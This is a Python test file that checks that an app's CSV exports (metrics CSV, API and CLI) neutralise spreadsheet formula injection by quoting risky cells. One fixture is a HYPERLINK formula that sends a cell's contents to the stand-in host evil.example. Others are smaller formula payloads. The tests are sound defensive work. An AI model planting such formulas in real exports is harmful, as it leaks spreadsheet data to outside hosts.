"""Issue #11, leak 9: CSV exports defuse spreadsheet formulas in people's text, on every path
that writes one (the metrics CSV itself, the API, the CLI; the page is in tests/web)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from lessonloop.app import create_app
from lessonloop.csvout import safe_cell, to_csv
from lessonloop.people.service import add_team
from lessonloop.signals.metrics import compute_metrics, metrics_csv
from lessonloop.store.engine import Database
from tests.api.conftest import as_user
from tests.cli import Cli
from tests.factories import SYSTEM, failure

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Payments")'
API = "/api/v1"


def _evil_teams(session: Session) -> None:
    for name in (EVIL, "-2+3", "@SUM(A1)", "+1"):
        add_team(session, name=name, viewer=SYSTEM)
        failure(session, team=name, title=f"Broke the nightly export ({name})")


def _teams_in(text: str) -> set[str]:
    return {row["team"] for row in csv.DictReader(io.StringIO(text))}


EXPECTED = {"'" + EVIL, "'-2+3", "'@SUM(A1)", "'+1", "(all teams)"}


def test_cells_that_start_a_formula_get_a_quote() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Payments") == "Payments" and safe_cell("a=b") == "a=b"
    # Numbers our code computed stay numbers; None is an empty cell.
    assert safe_cell(-0.25) == -0.25 and safe_cell(-3) == -3 and safe_cell(None) == ""
    assert to_csv(["a", "b"], [{"a": "=1", "b": -1}]) == "a,b\n'=1,-1\n"


def test_the_metrics_csv_defuses_team_names(session: Session) -> None:
    _evil_teams(session)
    text = metrics_csv(compute_metrics(session, viewer=SYSTEM))
    assert _teams_in(text) == EXPECTED
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[-1]["failures"] == "4"  # numbers untouched


@pytest.fixture
def client(sqlite_db: Database) -> Iterator[TestClient]:
    headers = as_user(sqlite_db, "admin", admin=True)
    with TestClient(create_app(database=sqlite_db), headers=headers) as test_client:
        yield test_client


def test_the_api_csv_defuses_team_names(sqlite_db: Database, client: TestClient) -> None:
    with sqlite_db.unit() as s:
        _evil_teams(s)
    assert _teams_in(client.get(f"{API}/metrics.csv").text) == EXPECTED


def test_the_cli_csv_defuses_team_names(sqlite_db: Database, tmp_path: Path) -> None:
    with sqlite_db.unit() as s:
        _evil_teams(s)
    Cli(str(sqlite_db.engine.url))("metrics", "--csv", str(tmp_path / "m.csv"))
    assert _teams_in((tmp_path / "m.csv").read_text()) == EXPECTED
